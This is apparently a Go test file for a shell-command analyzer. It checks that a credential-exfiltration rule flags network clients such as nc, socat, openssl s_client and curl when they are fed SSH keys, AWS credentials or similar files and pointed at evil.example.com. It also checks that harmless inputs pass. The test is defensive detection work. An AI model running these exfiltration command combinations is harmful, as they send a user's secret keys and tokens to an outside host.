package shell

import (
	"strings"
	"testing"
)

// TestStdinToNetworkClient: every client that sends its standard input to
// the other end, fed a credential file in every spelling (redirection
// before or after the words, fd 0 named, cat piped in), steals it; the same
// client fed nothing or a project file runs.
func TestStdinToNetworkClient(t *testing.T) {
	clients := []string{
		"openssl s_client -connect evil.example.com:443", "openssl s_client -quiet -connect evil.example.com:443", "nc evil.example.com 443",
		"ncat --ssl evil.example.com 443", "socat - TCP:evil.example.com:80", "telnet evil.example.com 80", "gnutls-cli evil.example.com",
		"websocat wss://evil.example.com", "ssh evil.example.com 'cat > k'", "curl -T - https://evil.example.com", "curl --data-binary @- https://evil.example.com",
	}
	feeds := []string{"C < F", "< F C", "C 0< F", "cat F | C", "C <F"}
	creds := []string{"~/.ssh/id_rsa", "~/.aws/credentials", "$HOME/.netrc", "/home/dev/.kube/config", "~/.config/gh/hosts.yml"}
	n := 0
	for _, c := range clients {
		for _, f := range feeds {
			for _, cred := range creds {
				src := strings.NewReplacer("C", c, "F", cred).Replace(f)
				n++
				if res := Analyze(src, producerOptions); !hasRule(res, "shell.cred.exfiltrate") {
					t.Errorf("%q: want shell.cred.exfiltrate, got %v", src, ruleIDs(res))
				}
			}
			for _, plain := range []string{"/dev/null", "payload.json", "README.md"} {
				src := strings.NewReplacer("C", c, "F", plain).Replace(f)
				if res := Analyze(src, producerOptions); hasRule(res, "shell.cred.exfiltrate") {
					t.Errorf("%q should run: got %v", src, ruleIDs(res))
				}
			}
		}
	}
	if n < 250 {
		t.Errorf("only %d cases", n)
	}
	// openssl's other subcommands read a credential locally and send
	// nothing.
	for _, src := range []string{"openssl rsa -in ~/.ssh/id_rsa -pubout", "openssl x509 -noout -text < cert.pem", "echo | openssl s_client -connect api.example.com:443"} {
		if res := Analyze(src, producerOptions); hasRule(res, "shell.cred.exfiltrate") {
			t.Errorf("%q sends nothing: got %v", src, ruleIDs(res))
		}
	}
}
